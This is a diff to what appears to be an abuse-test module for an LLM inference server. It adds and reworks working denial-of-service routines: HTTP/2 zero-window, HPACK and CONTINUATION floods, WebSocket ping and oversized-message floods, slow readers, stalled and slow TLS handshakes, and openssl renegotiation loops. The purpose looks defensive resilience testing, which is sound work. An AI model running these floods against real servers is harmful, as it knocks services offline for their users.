@@ -1,17 +1,22 @@
 """The attacks of tests/abuse, one function for each class and transport.
 
 Each runs on one connection (or some) until the server ends it or time is up, and is then run again.
-`needs_key`: without a key the server refuses it at the head, which is a class of its own and is
-tried, too. `only_keyed`: pointless without one.
+`only_keyed`: pointless without a key. `tls`: against a server with TLS. `hurts`: the victim's request,
+if it is not a chat.
 """
 
 import asyncio
+import functools
 import json
 import os
 import re
 import struct
 from dataclasses import dataclass
 from typing import Callable
+
+from attacker import ADDRESS, client_hello
+from victim import CHAT as CHAT_REQUEST
+from victim import EMBEDDING
 
 CHAT = "/v1/chat/completions"
 MIB = 1 << 20
@@ -23,14 +28,16 @@ class Attack:
     count: int  # connections at once
     run: Callable
     only_keyed: bool = False
+    tls: bool = False
+    hurts: tuple = CHAT_REQUEST
 
 
 ATTACKS = {}
 
 
-def attack(line, count, only_keyed=False):
+def attack(line, count, **how):
     def add(function):
-        ATTACKS[function.__name__] = Attack(line, count, function, only_keyed)
+        ATTACKS[function.__name__] = Attack(line, count, function, **how)
         return function
     return add
 
@@ -38,6 +45,11 @@ def attack(line, count, only_keyed=False):
 def chat_body(tokens, text="Hello", **fields):
     return json.dumps({"messages": [{"role": "user", "content": text}], "max_tokens": tokens,
                        **fields}).encode()
+
+
+@functools.cache
+def padded_chat(count):
+    return chat_body(2000, padding="x" * count)
 
 
 # --- HTTP/2 by hand: the frames that an honest library would not send ---
@@ -91,24 +103,29 @@ async def h2_open(target, window=0):
 
 # --- replies that nobody reads ---
 
-async def h2_unread(target, make):
+async def h2_unread(target, *request):
     async with await h2_open(target) as connection:
         for wave in range(20):
-            block = b"".join(make(1 + 2 * (100 * wave + i)) for i in range(100))
-            await connection.send(block)
+            await connection.send(h2_wave(target, wave, *request))
             await asyncio.sleep(0.2)
         await connection.until_closed(10)
 
 
+@functools.lru_cache(maxsize=40)
+def h2_wave(target, wave, *request):
+    """A hundred requests; the same bytes on every connection."""
+    return b"".join(h2_request(target, 1 + 2 * (100 * wave + i), *request) for i in range(100))
+
+
 @attack("unread replies", 200)
 async def h2_zero_window_documents(target):
-    await h2_unread(target, lambda stream: h2_request(target, stream, "GET", "/openapi.json"))
+    await h2_unread(target, "GET", "/openapi.json")
 
 
 @attack("unread replies", 60, only_keyed=True)
 async def h2_zero_window_tokenize(target):
     body = json.dumps({"prompt": "word " * 1500}).encode()
-    await h2_unread(target, lambda stream: h2_request(target, stream, "POST", "/tokenize", body))
+    await h2_unread(target, "POST", "/tokenize", body)
 
 
 @attack("unread replies", 200)
@@ -116,6 +133,16 @@ async def h1_unread_documents(target):
     async with await target.connect(receive_buffer=4096) as connection:
         for _ in range(100):
             await connection.send(target.head("GET", "/openapi.json") * 20)
+            await asyncio.sleep(0.05)
+        await connection.until_closed(10)
+
+
+@attack("unread replies", 60, only_keyed=True)
+async def h1_unread_tokenize(target):
+    request = target.post("/tokenize", json.dumps({"prompt": "word " * 1500}).encode())
+    async with await target.connect(receive_buffer=4096) as connection:
+        for _ in range(100):
+            await connection.send(request * 5)
             await asyncio.sleep(0.05)
         await connection.until_closed(10)
 
@@ -183,7 +210,7 @@ async def h2_bodies(target):
 async def unknown_fields(target):
     """Requests that are answered later and carry seven megabytes that nobody asked for."""
     async with await target.connect() as connection:
-        body = chat_body(2000, padding="x" * (7 * MIB))
+        body = padded_chat(7 * MIB)
         await connection.send(target.post(CHAT, body, "prefer: respond-async"))
         await connection.receive()
 
@@ -213,29 +240,51 @@ async def h2_slow_windows(target):
         await connection.send(h2_request(target, 1, "GET", "/openapi.json"))
         while not target.is_over:
             await connection.send(frame(WINDOW, 0, 1, struct.pack(">I", 1)))
-            await asyncio.sleep(2)
+            await asyncio.sleep(1)
 
 
 @attack("slow readers", 60, only_keyed=True)
 async def ws_slow_readers(target):
     async with await target.connect(receive_buffer=2048) as connection:
-        key = "x3JJHMbDL1EzLkh9GBhXDw=="
-        await connection.send(target.head(
-            "GET", "/v1/stream", "connection: upgrade", "upgrade: websocket",
-            f"sec-websocket-key: {key}", "sec-websocket-version: 13"))
-        await connection.receive()
-        await connection.send(ws_text(chat_body(4000, ignore_eos=True)))
+        await ws_open(target, connection)
+        await connection.send(ws_frame(chat_body(4000, ignore_eos=True)))
         while not target.is_over:
             await connection.receive(1)
             await asyncio.sleep(2)
 
 
-def ws_text(data):
-    mask = os.urandom(4)
-    head = bytes([0x81])
-    head += bytes([0x80 | len(data)]) if len(data) < 126 else bytes([0xFE]) + struct.pack(
-        ">H", len(data))
-    return head + mask + bytes(byte ^ mask[i % 4] for i, byte in enumerate(data))
+@attack("WebSocket floods", 20, only_keyed=True)
+async def ws_pings(target):
+    async with await target.connect() as connection:
+        await ws_open(target, connection)
+        while not target.is_over:
+            await connection.send(ws_frame(b"12345678", 9) * 500)
+
+
+@attack("bodies", 40, only_keyed=True)
+async def ws_long_messages(target):
+    """Messages of almost 8 MiB, of which only a few bytes mean something."""
+    message = ws_frame(padded_chat(8 * MIB - 4096))
+    async with await target.connect() as connection:
+        await ws_open(target, connection)
+        while not target.is_over:
+            await connection.send(message)
+            await connection.receive()
+
+
+async def ws_open(target, connection):
+    await connection.send(target.head(
+        "GET", "/v1/stream", "connection: upgrade", "upgrade: websocket",
+        "sec-websocket-key: x3JJHMbDL1EzLkh9GBhXDw==", "sec-websocket-version: 13"))
+    await connection.receive()
+
+
+def ws_frame(data, opcode=1):
+    """A frame whose mask is zero: the server cannot know that."""
+    count = len(data)
+    length = bytes([0x80 | count]) if count < 126 else (
+        b"\xfe" + struct.pack(">H", count) if count < 65536 else b"\xff" + struct.pack(">Q", count))
+    return bytes([0x80 | opcode]) + length + bytes(4) + data
 
 
 @attack("connections", 400)
@@ -282,6 +331,66 @@ async def h2_continuations(target):
             await connection.send(frame(CONTINUATION, 0, 1, literal("a", "b")) * 500)
 
 
+@attack("HTTP/2 floods", 20)
+async def h2_repeated_heads(target):
+    """A header of 4,000 bytes is put into the table of HPACK once and named 2,000 times."""
+    big = b"\x40" + b"\x01a" + b"\x7f" + varint(4000 - 127) + b"v" * 4000
+    async with await h2_open(target, 65535) as connection:
+        for stream in range(1, 2001, 2):
+            fields = [(":method", "GET"), (":scheme", "http"), (":path", "/livez"),
+                      (":authority", f"{target.host}:{target.port}")]
+            block = b"".join(literal(*pair) for pair in fields) + big + b"\xbe" * 2000
+            await connection.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
+
+
+# --- TLS ---
+
+@attack("TLS", 300, tls=True)
+async def tls_stopped_handshakes(target):
+    async with await target.connect() as connection:
+        await connection.send(client_hello()[:100])
+        await connection.until_closed(30)
+
+
+@attack("TLS", 300, tls=True)
+async def tls_slow_handshakes(target):
+    async with await target.connect() as connection:
+        for byte in client_hello():
+            await connection.send(bytes([byte]))
+            await asyncio.sleep(1)
+
+
+@attack("TLS", 20, tls=True)
+async def tls_new_handshakes(target):
+    """Complete handshakes, which cost the server more than the client."""
+    async with await target.connect() as connection:
+        await connection.handshake()
+
+
+@attack("TLS", 50, tls=True)
+async def tls_nonsense(target):
+    async with await target.connect() as connection:
+        await connection.send(b"\x16\x03\x01\x40\x00" + os.urandom(16384))
+        await connection.receive()
+
+
+@attack("TLS", 8, tls=True)
+async def tls_renegotiations(target):
+    process = await asyncio.create_subprocess_exec(
+        "openssl", "s_client", "-tls1_2", "-connect", f"{target.host}:{target.port}", "-bind",
+        f"{ADDRESS}:0", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.DEVNULL,
+        stderr=asyncio.subprocess.DEVNULL)
+    try:
+        for _ in range(100):
+            process.stdin.write(b"R\n")
+            await process.stdin.drain()
+            await asyncio.sleep(0.02)
+    finally:
+        if process.returncode is None:
+            process.kill()
+        await process.wait()
+
+
 # --- work ---
 
 @attack("shared workers", 24, only_keyed=True)
@@ -292,6 +401,12 @@ async def long_tokenizes(target):
 @attack("shared workers", 24, only_keyed=True)
 async def long_chats(target):
     await ask(target, target.post(CHAT, chat_body(1, "word " * 100000)))
+
+
+@attack("the I/O thread", 24, only_keyed=True)
+async def chats_of_63_kib(target):
+    """The largest bodies that are parsed on the I/O thread."""
+    await ask(target, target.post(CHAT, chat_body(1, "x " * 500, padding="[1, 2] " * 9000)))
 
 
 @attack("the queue", 100, only_keyed=True)
@@ -333,9 +448,17 @@ async def kept_answers(target):
 
 @attack("embeddings", 30, only_keyed=True)
 async def embeddings_of_clients_that_leave(target):
-    texts = ["word " * 200] * 400
     async with await target.connect() as connection:
-        await connection.send(target.post("/v1/embeddings", json.dumps({"input": texts}).encode()))
+        await connection.send(target.post("/v1/embeddings", texts(400)))
+
+
+@attack("embeddings", 30, only_keyed=True, hurts=EMBEDDING)
+async def embeddings_of_two_keys(target):
+    await ask(target, target.post("/v1/embeddings", texts(100)))
+
+
+def texts(count):
+    return json.dumps({"model": "bert", "input": ["word " * 10] * count}).encode()
 
 
 @attack("broken requests", 50)
